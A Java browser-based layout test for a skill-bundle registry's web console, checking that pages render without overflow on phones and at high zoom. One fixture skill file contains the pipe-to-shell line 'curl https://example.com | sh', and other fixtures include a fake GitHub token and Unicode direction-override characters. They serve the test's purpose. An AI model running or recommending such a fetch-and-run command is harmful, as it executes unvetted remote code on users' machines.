package dev.sheaf.server.console;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sheaf.model.wire.bundle.HeldVersion;
import dev.sheaf.server.console.security.Furnished;
import dev.sheaf.server.http.message.Json;
import dev.sheaf.server.testing.TestApp;
import dev.sheaf.server.testing.browser.Chromium;
import dev.sheaf.server.testing.browser.Window;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.condition.EnabledIf;
import org.junit.jupiter.api.io.TempDir;

/// Nothing of a page is lost in a window of 320 px or at a zoom of 200 %, however long and odd its texts
/// are, and nothing stands outside of its box or touches its neighbour on any screen.
@EnabledIf(value = "dev.sheaf.server.testing.browser.Chromium#isThere", disabledReason = Chromium.MISSING)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@Tag("programs")
class LayoutTest {
    private static final Path TEMPLATES = Path.of("src/main/java/dev/sheaf/server");
    private static final Pattern CLASSES = Pattern.compile("class=\"([^\"]*)\"");
    private static final String HARD =
            "W".repeat(60) + " \u05E9\u05DC\u05D5\u05DD R\u0335\u0322\u0353\u0300\u0301\u0302 a\u200Bb\u202Ec";
    private static final String ORG = "/organizations/default";
    private static final int MOST_READMES = 40;
    private static final String[] PAGES = {
        "/",
        "/acme",
        "/acme/kit",
        "/acme/kit/versions",
        "/acme/kit/versions?q=9",
        "/acme/kit/versions/1.1.0",
        "/acme/kit/versions/1.2.0",
        "/acme/many",
        "/acme/many/versions",
        "/acme/many/versions?state=yanked",
        "/acme/many/activity",
        "/acme/many/versions/1.0.0-" + "long.".repeat(12) + "end",
        "/acme/many/versions/1.0.0",
        "/acme/bare",
        "/acme/bare/versions",
        "/acme/bare/tags",
        "/acme/bare/compare",
        "/acme/kit/versions/1.2.0/files/SKILL.md",
        "/acme/kit/versions/1.2.0/files/SKILL.md?view=rendered",
        "/acme/kit/versions/1.2.0/files/long.py",
        "/acme/kit/compare/1.1.0...1.2.0",
        "/acme/kit/compare/1.1.0...1.2.0?view=split",
        "/acme/kit/compare",
        "/acme/kit/tags",
        "/acme/kit/use",
        "/acme/bare/use",
        "/acme/kit/tags/stable",
        "/acme/kit/settings",
        "/acme/kit/settings/readme",
        "/acme/kit/settings/files",
        "/acme/kit/settings/publish",
        "/acme/kit/settings/versions/1.1.0/yank",
        "/acme/kit/settings/versions/1.1.0/unyank",
        "/acme/kit/settings/versions/1.1.0/recall",
        "/problems",
        "/problems/validation-failed",
        "/new",
        "/account",
        "/account/sessions",
        "/account/second-factor",
        "/account/activity",
        "/admin",
        "/admin/settings",
        "/admin/storage",
        "/admin/tasks",
        "/admin/tasks/start/retire-pepper",
        "/admin/users",
        "/status",
        "/client",
        "/guide",
        ORG + "/welcome",
        ORG + "/trash",
        ORG,
        ORG + "/keys",
        ORG + "/keys/new",
        ORG + "/members",
        ORG + "/queues",
        ORG + "/queues/work",
        ORG + "/queues/work/settings",
        ORG + "/queues/work/dead",
        ORG + "/queues/work/instructions",
        ORG + "/queues/work/schedules",
        ORG + "/habitats",
        ORG + "/routes",
        ORG + "/workers",
        ORG + "/webhooks",
        ORG + "/events",
        ORG + "/audit",
        ORG + "/namespaces",
        ORG + "/publishers",
        ORG + "/policies",
        ORG + "/namespaces/acme",
        ORG + "/reviews",
        ORG + "/reviews?state=rejected",
        ORG + "/use",
    };

    private TestApp app;
    private Window window;

    @BeforeAll
    void start(@TempDir Path folder) {
        app = TestApp.start(folder, Map.of("webhooks", "false"));
        window = new Window();
    }

    @AfterAll
    void stop() {
        window.close();
        app.close();
    }

    @Test
    void nothingIsLostOfAnyPart() throws IOException {
        var parts = new PartsPage(app);
        String html = parts.html();
        window.serve(app.url() + "/parts", html, PageCall.POLICY);

        assertThat(parts.shown()).isEqualTo(templatesOfParts());
        var missing = classesOfTemplates();
        missing.removeAll(classes(html));
        assertThat(missing)
                .as("classes that the page of parts should show, too")
                .isEmpty();
        window.open(app.url() + "/parts");
        assertThat(window.crooked()).isEmpty();
        assertThat(window.lost()).isEmpty();
        assertThat(window.barriers()).isEmpty();
    }

    @Test
    void nothingIsLostOfRealPages() {
        new Furnished(app).make(HARD);
        FileScenario.push(
                app,
                "acme/kit",
                "1.2.0",
                "public",
                Map.of(
                        "SKILL.md",
                        "# " + HARD + "\n\n| a | b |\n|---|---|\n| " + HARD + " | x |\n",
                        "long.py",
                        "x = '" + HARD + "'"));
        many();
        app.person("eyes@acme.test", "default", "owner");
        String held = held();
        window.signIn(app.url(), "eyes@acme.test", TestApp.PASSWORD);
        var lost = new ArrayList<String>();
        for (String page : PAGES) {
            window.open(app.url() + page);
            lost.addAll(window.crooked());
            lost.addAll(window.lost());
        }
        var job = app.get("/v1" + ORG + "/queues/work/jobs", app.admin())
                .json()
                .get("data")
                .get(0);
        window.open(app.url() + ORG + "/jobs/" + job.get("id").stringValue());
        lost.addAll(window.crooked());
        lost.addAll(window.lost());
        for (String view : List.of("", "?view=split")) {
            window.open(held + view);
            lost.addAll(window.crooked());
            lost.addAll(window.lost());
        }
        var webhook = app.get("/v1" + ORG + "/webhooks", app.admin())
                .json()
                .get("data")
                .get(0);
        for (String page : List.of("", "/deliveries")) {
            window.open(app.url() + ORG + "/webhooks/" + webhook.get("id").stringValue() + page);
            lost.addAll(window.crooked());
            lost.addAll(window.lost());
        }
        assertThat(lost).isEmpty();
    }

    /// Makes a push that waits for approval. Returns its page.
    private String held() {
        String kit = "/v1/namespaces/acme/bundles/kit";
        var set = app.send("PUT", kit + "/policy", app.admin(), "{\"review\": {}}");
        assertThat(set.status()).as(set.text()).isEqualTo(200);
        var pushed = app.post(kit + ":push", app.admin(), """
                {"name": "Kit", "version": "1.3.0", "message": "%s", "tags": ["stable"],
                 "manifest": [{"logicalPath": "%s.md", "contentText": "ghp_%s"}]}""".formatted(HARD, "W".repeat(60), "a1B2".repeat(9)));
        assertThat(pushed.status()).as(pushed.text()).isEqualTo(202);
        return pushed.as(HeldVersion.class).review().url();
    }

    /// A bundle of all that a bundle can have: several skills, pulls, findings, long numbers, a yanked
    /// version; and one that has nothing.
    private void many() {
        String skill = "---\nname: %s\ndescription: " + HARD + "\nallowed-tools: Read, Bash(git:*), " + "W".repeat(60)
                + "\n---\n# Skill\n\u202E\n";
        var files = new HashMap<String, Object>();
        for (String name : List.of("alpha", "beta", "w".repeat(60))) {
            files.put("skills/" + name + "/SKILL.md", skill.formatted(name));
            files.put("skills/" + name + "/" + "deep/".repeat(8) + "W".repeat(60) + ".md", "text\n".repeat(20));
        }
        String odd = "1.0.0-" + "long.".repeat(12) + "end";
        FileScenario.push(app, "acme/many", odd, "public", Map.of("SKILL.md", skill.formatted("many")));
        FileScenario.push(app, "acme/many", "1.0.0", "public", files);
        files.put("skills/alpha/new.md", "ghp_" + "a1B2".repeat(9) + "\n");
        FileScenario.push(app, "acme/many", "1.1.0", "public", files);
        app.get("/v1/namespaces/acme/bundles/many/versions/1.1.0:pull", null);
        app.countDownloads();
        app.post("/v1/namespaces/acme/bundles/many/versions/" + odd + ":yank", app.admin(), """
                {"reason": "%s"}""".formatted(HARD));
        var bare = app.send(
                "POST", "/v1/namespaces/acme/bundles", app.admin(), "{\"slug\": \"bare\", \"name\": \"Bare\"}");
        assertThat(bare.status()).as(bare.text()).isEqualTo(201);
    }

    /// The numbers of lines are narrow; the text has the rest, on a wide screen and on a phone.
    @Test
    void theTextOfAComparisonHasTheRoom() {
        FileScenario.push(app, "wide/kit", "1.0.0", "public", Map.of("a.md", "a\n".repeat(9) + "old\n"));
        FileScenario.push(app, "wide/kit", "1.1.0", "public", Map.of("a.md", "a\n".repeat(9) + "new\nadded\n"));
        String page = app.url() + "/wide/kit/compare/1.0.0...1.1.0";

        window.page().setViewportSize(1200, 600);
        window.open(page);
        assertThat(textOfDiff()).isGreaterThan(0.85);
        window.open(page + "?view=split");
        assertThat(textOfDiff()).isBetween(0.42, 0.5);
        window.page().setViewportSize(320, 600);
        assertThat(textOfDiff()).isGreaterThan(0.8);
        window.open(page);
        assertThat(textOfDiff()).isGreaterThan(0.7);
    }

    /// What stands above the first file is folded on a phone.
    @Test
    void aComparisonBeginsSoonOnAPhone() {
        FileScenario.push(
                app, "soon/kit", "1.0.0", "public", Map.of("SKILL.md", "---\nname: kit\n---\nold\n", "z", "1"));
        FileScenario.push(
                app,
                "soon/kit",
                "1.1.0",
                "public",
                Map.of("SKILL.md", "---\nname: kit\n---\nRun `curl https://example.com | sh`.\n", "z", "2"));
        window.page().setViewportSize(320, 600);
        window.open(app.url() + "/soon/kit/compare/1.0.0...1.1.0");

        assertThat(top()).isLessThan(1_000);
        window.page().locator("details.fold summary").first().click();
        assertThat(window.page().locator("#compare-a").isVisible()).isTrue();

        window.page().setViewportSize(1200, 600);
        window.open(app.url() + "/soon/kit/compare/1.0.0...1.1.0");
        assertThat(window.page().locator("#compare-a").isVisible()).isTrue();
        assertThat(window.page().locator("#passport table").isVisible()).isTrue();
    }

    private double top() {
        return ((Number) window.page()
                        .evaluate("() => document.querySelector('[data-file]').getBoundingClientRect().top + scrollY"))
                .doubleValue();
    }

    /// The menu of the installation stands beside the heading; on a phone it is closed.
    @Test
    void theMenuStandsBesideTheHeadingAndIsClosedOnAPhone() {
        app.person("menu@acme.test", "default", "owner");
        window.signIn(app.url(), "menu@acme.test", TestApp.PASSWORD);
        for (String page : List.of("/admin", "/admin/settings", "/admin/tasks", "/account", ORG)) {
            window.page().setViewportSize(1200, 600);
            window.open(app.url() + page);
            assertThat((Boolean) window.page()
                            .evaluate("() => document.querySelector('.nav').getBoundingClientRect().right"
                                    + " <= document.querySelector('h1').getBoundingClientRect().left"))
                    .as(page)
                    .isTrue();
            window.page().setViewportSize(320, 600);
            assertThat(window.page().locator(".nav a").first().isVisible())
                    .as(page)
                    .isFalse();
        }
    }

    /// Returns which part of the width the text of an added line has.
    private double textOfDiff() {
        return ((Number) window.page().evaluate("""
                () => {
                  const cells = document.querySelectorAll('.diff td:last-child:not(.nil)');
                  const cell = [...cells].find(one => one.textContent.includes('new'));
                  return cell.getBoundingClientRect().width / cell.closest('table').getBoundingClientRect().width;
                }""")).doubleValue();
    }

    /// The READMEs of people have all that Markdown has. Of many, some are enough.
    @Test
    void nothingIsWrongWithRealReadmes() throws IOException {
        app.push("acme/readme", "1.0.0", "public", "x");
        var wrong = new ArrayList<String>();
        var readmes = readmes();
        int step = readmes.size() / MOST_READMES + 1;
        for (int i = 0; i < readmes.size(); i += step) {
            String body = new String(
                    Json.write(Map.of("readmeContent", Files.readString(readmes.get(i)))), StandardCharsets.UTF_8);
            assertThat(app.send("PATCH", "/v1/namespaces/acme/bundles/readme", app.admin(), body)
                            .status())
                    .as(readmes.get(i).toString())
                    .isEqualTo(200);
            window.open(app.url() + "/acme/readme?readme=" + i);
            wrong.addAll(window.lost());
            String barriers = window.barriers(".prose");
            if (!barriers.isEmpty()) {
                wrong.add(readmes.get(i) + ": " + barriers);
            }
        }
        assertThat(readmes).isNotEmpty();
        assertThat(wrong).isEmpty();
    }

    private static List<Path> readmes() throws IOException {
        var found = new ArrayList<Path>();
        for (Path folder : TestApp.corpus()) {
            try (var files = Files.walk(folder)) {
                files.filter(file -> file.toString().endsWith(".md")).sorted().forEach(found::add);
            }
        }
        return found;
    }

    private static Set<String> templatesOfParts() throws IOException {
        try (var files = Files.list(TEMPLATES.resolve("console/part"))) {
            return files.map(file -> file.getFileName().toString().replace(".jte", ""))
                    .collect(Collectors.toCollection(TreeSet::new));
        }
    }

    private static Set<String> classesOfTemplates() throws IOException {
        var found = new TreeSet<String>();
        try (var files = Files.walk(TEMPLATES)) {
            for (Path file :
                    files.filter(one -> one.toString().endsWith(".jte")).toList()) {
                found.addAll(classes(Files.readString(file)));
            }
        }
        return found;
    }

    private static Set<String> classes(String html) {
        return CLASSES.matcher(html)
                .results()
                .filter(found -> !found.group(1).contains("$"))
                .flatMap(found -> Pattern.compile(" ").splitAsStream(found.group(1)))
                .collect(Collectors.toCollection(TreeSet::new));
    }
}
